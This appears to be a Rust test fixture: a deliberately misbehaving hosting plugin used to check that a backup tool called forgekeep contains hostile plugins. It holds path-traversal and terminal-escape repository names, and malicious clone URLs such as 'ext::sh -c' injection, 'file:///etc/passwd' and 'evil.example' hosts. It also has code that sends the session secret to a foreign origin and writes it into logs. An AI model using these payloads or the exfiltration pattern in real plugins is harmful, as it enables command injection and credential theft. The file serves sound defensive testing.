//! The misbehaviours of a listing:
//!
//! - `control-names`: names and ids that would be dangerous as paths or on a terminal;
//! - `no-id`, `duplicate-ids`: identities missing, or shared by two repositories;
//! - `endless-pages`, `endless-empty`: always one more page, of a new repository or of nothing;
//! - `huge-page`: 100,000 repositories at once;
//! - `bad-clone-url`: clone URLs that must not be cloned from;
//! - `leak`: the secret in log lines and in the error;
//! - `direct-origin`, `direct-header`: the credentials to another origin, by the host's field for
//!   them or by a header;
//! - `direct-field`, `direct-address`, `direct-body`: the same by a field of its own, by the address, by
//!   a body;
//! - `post`: a POST to the other origin, without credentials;
//! - `error-weird`: an error of an unknown kind, with control characters.

use forgekeep_plugin_sdk_draft::{
    Authorization, Extras, Header, HosterError, HttpRequest, Note, Page, RSome, Repository,
    Severity, error_kind,
};

use crate::{MisbehavingSession, clone_base, foreign_origin, misbehaviour};

/// Names that a careless host would write to the disk or the terminal as they are.
const DANGEROUS: [&str; 16] = [
    "acme/../../../../tmp/forgekeep-escaped",
    "/etc/forgekeep-escaped",
    "acme/..",
    "..",
    ".",
    "acme/\u{1b}[2J\u{1b}[31mred",
    "acme/line\r\nforged: line",
    "acme/\u{202e}gpj.exe",
    "acme/nul\u{0}byte",
    "acme\\..\\..\\windows",
    "C:\\forgekeep-escaped",
    "acme/CON",
    "acme/Case",
    "acme/case",
    "acme/trailing. ",
    "",
];

/// URLs that must not be cloned from.
const BAD_URLS: [&str; 10] = [
    "file:///etc/passwd",
    "/etc/passwd",
    "ssh://git@evil.example/acme/web.git",
    "git@evil.example:acme/web.git",
    "ext::sh -c 'touch /tmp/forgekeep-escaped'",
    "git://evil.example/acme/web.git",
    "http://user:pass@evil.example/acme/web.git",
    "https://evil.example/acme/web.git",
    "https://evil.example\\@misbehaving.example/acme/web.git",
    "",
];

/// The page that the misbehaviour of now makes.
pub(crate) fn page(session: &MisbehavingSession) -> Result<Option<Page>, HosterError> {
    if let Some(error) = failure(session) {
        return Err(error);
    }
    let number = session.pages;
    match misbehaviour().as_str() {
        "endless-pages" => return Ok(Some(of(vec![good(&format!("acme/r{number}"))]))),
        "endless-empty" => return Ok(Some(Page::default())),
        _ if number > 1 => return Ok(None),
        _ => {}
    }
    let mut page = of(match misbehaviour().as_str() {
        "control-names" => DANGEROUS.iter().map(|name| dangerous(name)).collect(),
        "no-id" => vec![Repository::new("", "acme/one", clone_url("acme/one"))],
        "duplicate-ids" => ["acme/one", "acme/two"]
            .iter()
            .map(|name| Repository::new("same", *name, clone_url(name)))
            .collect(),
        "huge-page" => (0..100_000)
            .map(|number| good(&format!("acme/r{number}")))
            .collect(),
        "bad-clone-url" => BAD_URLS
            .iter()
            .enumerate()
            .map(|(number, url)| {
                Repository::new(format!("bad-{number}"), format!("acme/bad-{number}"), *url)
            })
            .collect(),
        _ => vec![good("acme/one"), good("acme/two")],
    });
    if misbehaviour().starts_with("direct-") {
        page.notes.push(Note {
            severity: Severity::Info,
            message: format!("{} answered", foreign_origin()).into(),
            extras: Extras::new(),
        });
    }
    Ok(Some(page))
}

/// The error that the misbehaviour of now ends in, if any.
pub(crate) fn failure(session: &MisbehavingSession) -> Option<HosterError> {
    match misbehaviour().as_str() {
        "leak" => Some(leak(session)),
        "direct-origin" => send(session, Vec::new(), session.authorization()),
        "direct-header" => {
            let header = Header {
                name: "AuthoriZation".into(),
                value: format!("Bearer {}", session.secret().expose()).into(),
            };
            send(session, vec![header], Authorization::Anonymous)
        }
        "direct-field" => {
            let header = Header {
                name: "PRIVATE-TOKEN".into(),
                value: session.secret().expose().into(),
            };
            send(session, vec![header], Authorization::Anonymous)
        }
        "direct-address" => {
            let address = format!("collect?token={}", session.secret().expose());
            ask(session, "GET", &address, Vec::new())
        }
        "direct-body" => {
            let body = format!("{{\"token\": \"{}\"}}", session.secret().expose());
            ask(session, "POST", "collect", body.into_bytes())
        }
        "post" => Some(
            ask(session, "POST", "2.0/repositories/acme", b"{}".to_vec())
                .unwrap_or_else(|| HosterError::new(error_kind::OTHER, "it was answered")),
        ),
        "error-weird" => Some(
            HosterError::new(
                "flux-capacitor",
                "all is lost\u{1b}[2J\u{1b}[31m\r\nforged: line\u{0}\u{202e}",
            )
            .with_hint("do\u{7} nothing\n"),
        ),
        _ => None,
    }
}

/// Says the secret wherever words can be said.
fn leak(session: &MisbehavingSession) -> HosterError {
    let secret = session.secret();
    let secret = secret.expose();
    session.services.info(&format!("the secret is {secret}"));
    session.services.debug(&format!("again: {secret}"));
    HosterError::new(error_kind::OTHER, format!("refused with {secret}"))
        .with_hint(format!("try {secret} once more"))
}

/// Sends the credentials to another origin; what the host says to that.
fn send(
    session: &MisbehavingSession,
    headers: Vec<Header>,
    authorization: Authorization,
) -> Option<HosterError> {
    session
        .services
        .http(HttpRequest {
            method: "GET".into(),
            url: format!("{}/collect", foreign_origin()).into(),
            headers: headers.into(),
            authorization,
            body: Vec::new().into(),
            extras: Extras::new(),
        })
        .err()
}

/// Asks the other origin without the host's field for credentials; what the host says to that.
fn ask(
    session: &MisbehavingSession,
    method: &str,
    address: &str,
    body: Vec<u8>,
) -> Option<HosterError> {
    session
        .services
        .http(HttpRequest {
            method: method.into(),
            url: format!("{}/{address}", foreign_origin()).into(),
            headers: vec![Header {
                name: "accept".into(),
                value: "application/json".into(),
            }]
            .into(),
            authorization: Authorization::Anonymous,
            body: body.into(),
            extras: Extras::new(),
        })
        .err()
}

fn of(repositories: Vec<Repository>) -> Page {
    Page {
        repositories: repositories.into(),
        ..Page::default()
    }
}

fn clone_url(name: &str) -> String {
    format!("{}/{name}.git", clone_base())
}

fn good(name: &str) -> Repository {
    Repository::new(format!("id-of-{name}"), name, clone_url(name))
}

/// Dangerous in every text it has, but with something to clone.
fn dangerous(name: &str) -> Repository {
    Repository {
        id: name.into(),
        full_name: name.into(),
        clone_url: clone_url("acme/one").into(),
        wiki_url: RSome(clone_url("acme/one").into()),
        default_branch: name.into(),
        ..Repository::default()
    }
}
